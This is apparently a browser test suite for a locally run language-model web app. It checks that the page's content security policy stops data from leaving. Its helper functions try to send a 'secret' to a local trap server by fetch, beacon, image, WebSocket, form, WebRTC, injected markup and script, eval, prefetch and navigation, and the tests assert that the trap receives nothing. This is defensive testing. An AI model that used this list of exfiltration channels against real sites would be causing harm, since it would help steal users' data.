/**
 * What the page cannot do: send anything anywhere. The policy is tried from the page and from the
 * worker, against a second server that would note what arrives.
 */

import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import { test } from "node:test";
import { ask, correct, launch, learn, open, PATIENCE_MS, ready, serveSmall } from "./harness.mjs";

/** A server that lets everybody in and writes down who came. */
async function trap() {
  const arrived = [];
  const server = createServer((request, response) => {
    arrived.push(request.url);
    const open = {
      "Access-Control-Allow-Origin": "*",
      "Cross-Origin-Resource-Policy": "cross-origin",
    };
    response.writeHead(200, open).end("caught");
  });
  server.on("upgrade", (request, socket) => {
    arrived.push(request.url);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address();
  // Connections between browsers begin by asking over UDP.
  const udp = createSocket("udp4", () => arrived.push("/webrtc"));
  await new Promise((resolve) => udp.bind(port, "127.0.0.1", resolve));
  const close = async () => {
    udp.close();
    await new Promise((resolve) => server.close(resolve).closeAllConnections());
  };
  return { origin: `127.0.0.1:${port}`, arrived, close };
}

/** Tries every way out; runs in the page or the worker, so it must stand alone. */
async function tryToSend(origin) {
  const ways = { fetch: "blocked", beacon: "blocked", image: "blocked", socket: "blocked" };
  await fetch(`http://${origin}/fetch`, { method: "POST", body: "secret", mode: "no-cors" }).then(
    () => (ways.fetch = "sent"),
    () => undefined,
  );
  if (typeof navigator.sendBeacon === "function")
    navigator.sendBeacon(`http://${origin}/beacon`, "secret");
  if (typeof Image === "function") {
    await new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve((ways.image = "sent"));
      image.onerror = resolve;
      image.src = `http://${origin}/image?secret`;
    });
  }
  await new Promise((resolve) => {
    try {
      const socket = new WebSocket(`ws://${origin}/socket`);
      socket.onopen = () => resolve((ways.socket = "sent"));
      socket.onerror = resolve;
    } catch {
      resolve();
    }
  });
  await new Promise((resolve) => setTimeout(resolve, 300));
  return ways;
}

/** Ways out that only a document has: a form, a connection between browsers, markup, another address. */
async function tryToLeave(origin) {
  const ways = {};
  const attempt = async (way, work) => {
    try {
      await work();
      ways[way] = "tried";
    } catch (error) {
      ways[way] = `refused: ${error.name}`;
    }
  };
  await attempt("form", () => {
    const form = document.createElement("form");
    Object.assign(form, { action: `http://${origin}/form`, method: "POST", target: "_blank" });
    document.body.append(form);
    form.submit();
  });
  await attempt("webrtc", async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${origin}` }] });
    peer.createDataChannel("secret");
    await peer.setLocalDescription(await peer.createOffer());
  });
  await attempt("markup", () => {
    const box = document.createElement("div");
    box.innerHTML = `<img src="http://${origin}/markup?secret">`;
    document.body.append(box);
  });
  await attempt("script", () => {
    const script = document.createElement("script");
    script.textContent = `fetch("http://${origin}/script?secret", { mode: "no-cors" })`;
    document.body.append(script);
  });
  await attempt("eval", () =>
    (0, eval)(`fetch("http://${origin}/eval?secret", { mode: "no-cors" })`),
  );
  await attempt("prefetch", () => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "prefetch", href: `http://${origin}/prefetch?secret` });
    document.head.append(link);
  });
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  return ways;
}

const LEAVING = ["/form", "/webrtc", "/markup?secret", "/script?secret", "/eval?secret"];
const NOTHING = { fetch: "blocked", beacon: "blocked", image: "blocked", socket: "blocked" };

/** The page, and a trap on another address that is shown to catch `ways` where there is no policy. */
async function trapped(t, attempt, ways) {
  const [server, caught, browser] = await Promise.all([serveSmall(), trap(), launch()]);
  t.after(() => Promise.all([browser.close(), server.close(), caught.close()]));
  assert.ok(server.model, "no model: `cargo xtask test page` names it to the tests");
  const free = await (await browser.newContext()).newPage();
  await free.goto(`http://${caught.origin}/`);
  caught.arrived.length = 0;
  await free.evaluate(attempt, caught.origin);
  for (const way of ways) assert.ok(caught.arrived.includes(way), `the trap missed ${way}`);
  // Its peer asks again for seconds, which would be taken for the page's.
  await free.context().close();
  const page = await open(await browser.newContext(), `${server.url}?device=cpu${server.query}`);
  await ready(page);
  caught.arrived.length = 0;
  return { server, caught, page };
}

test(
  "the policy lets nothing out, from the page or the worker",
  { timeout: PATIENCE_MS },
  async (t) => {
    const sent = ["/fetch", "/beacon", "/image?secret", "/socket"];
    const { caught, page } = await trapped(t, tryToSend, sent);
    assert.equal(await page.evaluate(() => crossOriginIsolated), true);
    assert.deepEqual(await page.evaluate(tryToSend, caught.origin), NOTHING);
    const [worker] = page.workers();
    assert.deepEqual(await worker.evaluate(tryToSend, caught.origin), NOTHING);
    assert.deepEqual(caught.arrived, []);
  },
);

test(
  "nor by a form, a peer, markup, a script, or another address",
  { timeout: PATIENCE_MS },
  async (t) => {
    const { server, caught, page } = await trapped(t, tryToLeave, LEAVING);
    const ways = await page.evaluate(tryToLeave, caught.origin);
    assert.deepEqual(caught.arrived, [], JSON.stringify(ways));
    assert.match(ways.markup, /^refused: TypeError/);
    // The page is still here after it was told to be elsewhere.
    await page.evaluate(
      (origin) => void (location.href = `http://${origin}/navigate?secret`),
      caught.origin,
    );
    await page.waitForTimeout(500);
    assert.equal(new URL(page.url()).origin, new URL(server.url).origin);
    await page.getByRole("textbox", { name: "Message" }).waitFor();
    assert.deepEqual(caught.arrived, []);
  },
);

test(
  "asking, teaching and learning make no request at all",
  { timeout: 3 * PATIENCE_MS },
  async (t) => {
    const [server, browser] = await Promise.all([serveSmall(), launch()]);
    t.after(() => Promise.all([browser.close(), server.close()]));
    assert.ok(server.model, "APPRENTICE_SMALL_MODEL is not set: the test has no model");
    const context = await browser.newContext();
    const page = await open(
      context,
      `${server.url}?device=cpu&temperature=0&tokens_max=32${server.query}`,
    );
    const seen = [];
    context.on("request", (request) => seen.push(request.url()));
    await ready(page);
    // The service worker takes the page's own files once, when the model answers.
    await page.evaluate(() => navigator.serviceWorker.ready);
    await page.waitForLoadState("networkidle");
    seen.length = 0;
    server.requests.length = 0;
    await ask(page, server.lesson.prompt);
    await correct(page, server.lesson.answer);
    await learn(page);
    assert.deepEqual(seen, []);
    assert.deepEqual(server.requests, []);
    // The counter works: a request of the page's own is seen.
    await page.evaluate(() => fetch("/model.json"));
    assert.equal(server.requests.length, 1);
    assert.deepEqual(page.faults, []);
  },
);
